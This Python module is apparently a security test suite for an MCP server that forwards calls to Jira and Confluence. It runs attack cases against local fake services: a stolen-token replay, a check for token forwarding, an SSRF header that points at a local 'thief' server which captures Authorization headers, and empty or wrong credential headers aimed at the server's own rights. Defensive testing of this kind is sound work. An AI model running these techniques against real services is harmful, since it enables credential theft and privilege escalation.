"""Attacks on a server between its callers and Jira and Confluence, which are the fakes of scripts/."""

import atexit
import json
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import oauth_attacks
from attack_type import Attack
from http_attacks import bearer, head
from http_target import request
from oauth_attacks import OAuthTarget, lazily, token
from sign_in_attacks import written
from target import call

UPSTREAM = "Sources/Upstream/"
CALLS = "Sources/MCPServiceOAuth/Upstream/UpstreamCalls.swift"
CHOICE = UPSTREAM + "CredentialChoice.swift"
CONTEXT = "Sources/MCPService/Tools/CallContext.swift"
FAKES = Path(__file__).resolve().parents[2] / "scripts/fake_services.py"

# Accounts of the fakes. The one of the server may see all projects, that of the caller one.
OWN, CALLER = "ann-token-of-the-fakes", "ben-token-of-the-fakes"
ROW = {"subject": "anshika", "tool": "sum_story_points"}  # of oauth_attacks.claims_for


def start_fakes():
    process = subprocess.Popen([sys.executable, str(FAKES)], stdout=subprocess.PIPE, text=True)
    atexit.register(process.terminate)
    return process.stdout.readline().strip().removeprefix("Listening at ")


fakes = lazily(start_fakes)


class Thief(BaseHTTPRequestHandler):
    """The address of a thief. It refuses each credential, and keeps it."""

    collected = []

    def do_GET(self):
        Thief.collected.append(self.headers.get("Authorization", ""))
        self.send_response(401)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


thief = ThreadingHTTPServer(("127.0.0.1", 0), Thief)
threading.Thread(target=thief.serve_forever, daemon=True).start()


class UpstreamTarget(OAuthTarget):
    def start(self, **settings):
        services = {"JIRA_URL": f"{fakes()}/jira", "CONFLUENCE_URL": f"{fakes()}/confluence"}
        return super().start(**services, **settings)


TARGET = UpstreamTarget
SETTINGS = {
    **oauth_attacks.SETTINGS,
    "JIRA_PERSONAL_TOKEN": OWN,
    "CONFLUENCE_PERSONAL_TOKEN": OWN,
    "CALCULATOR_UPSTREAM_HEADERS": "true",
    "CALCULATOR_UPSTREAM_SHARED": written("shared.json", {"allow": [ROW]}),
}


def caller(server, **claims):
    """A good access token for this server, and for no other."""
    return bearer(token(server, {"scope": "upstream:read"} | claims))


def project(name):
    return call("sum_story_points", {"jql": f"project = {name}"})


# A project that the caller's own account there does not show.
SECRET_PROJECT = project("A")


def sending(credential, *more, body=SECRET_PROJECT):
    """An attack that is one call of Jira; `credential` may be a function of the server."""

    def attempt(target):
        server = target.start()
        field = credential(server) if callable(credential) else credential
        [response] = server.send(request(head(field, *more, name="sum_story_points"), body))
        server.close()
        return response.was_let_in, response.seen

    return attempt


def passed_on(target):
    """Does the token for this server reach Jira?"""
    server = target.start()
    field = caller(server)
    [response] = server.send(request(head(field, name="sum_story_points"), SECRET_PROJECT))
    server.close()
    record = urlopen(f"{fakes()}/_requests", timeout=5).read().decode()
    found = any(["Authorization", field[1]] in one["fields"] for one in json.loads(record))
    result = "has got" if found else "has not got"
    return found, f"{response.status} Jira {result} the token for this server"


def collected(target):
    """The header names an address of the thief, which refuses each token and keeps it."""
    Thief.collected.clear()
    server = target.start()
    fields = [
        caller(server),
        ("X-Jira-Token", CALLER),
        ("X-Jira-Url", f"http://127.0.0.1:{thief.server_port}"),
    ]
    [response] = server.send(request(head(*fields, name="sum_story_points"), SECRET_PROJECT))
    server.close()
    if f"Bearer {OWN}" in Thief.collected:
        return True, "the thief has the token of the server"
    return bool(Thief.collected), response.seen


# A call with the caller's own token for Jira, for a project of the caller.
HONEST = sending(caller, ("X-Jira-Token", CALLER), body=project("B"))

ATTACKS = [
    Attack(
        "O155",
        "a token for Confluence, stolen and sent here",
        "MCP 2026-07-28 basic/authorization",
        ("Sources/JOSE/CompactJWS.swift", "throw .notThreeParts"),
        sending(bearer(OWN)),
        reason="not_three_parts",
        hole="one token does for both",
    ),
    Attack(
        "O155",
        "the token for this server, handed on to Jira",
        "MCP 2026-07-28 basic/authorization",
        (CONTEXT, "fields = tool.fields.map"),
        passed_on,
        reason='"upstream_credential":"shared"',
        hole="passed_on = fields.get",
    ),
    Attack(
        "O131",
        "a header that names the address of a thief",
        "CWE-918",
        (CALLS, 'context.note("ignored_field", field)'),
        collected,
        reason='"ignored_field":"X-Jira-Url"',
        hole='fields.get(f"X-{name}-Url"',
    ),
    Attack(
        "O145",
        "an empty header, to get the server's rights",
        "CWE-636",
        (UPSTREAM + "CredentialForm.swift", "throw .empty"),
        sending(caller, ("X-Jira-Token", "")),
        reason='"upstream":"jira"}',
        hole="an empty field is no field",
    ),
    Attack(
        "O145",
        "a wrong header, to get the server's rights",
        "CWE-636",
        (CHOICE, "return CredentialChoice(try rules.form.credential(value), .header)"),
        sending(caller, ("X-Jira-Token", "wrong")),
        reason='"upstream_credential":"header"',
        hole="so that it works all the same",
    ),
    Attack(
        "O146",
        "no header, no row, for the server's rights",
        "CWE-441",
        (CHOICE, "isShared, !isGuest"),
        sending(lambda server: caller(server, sub="mallory")),
        reason='"upstream":"jira"}',
        hole="so that it works all the same",
    ),
]
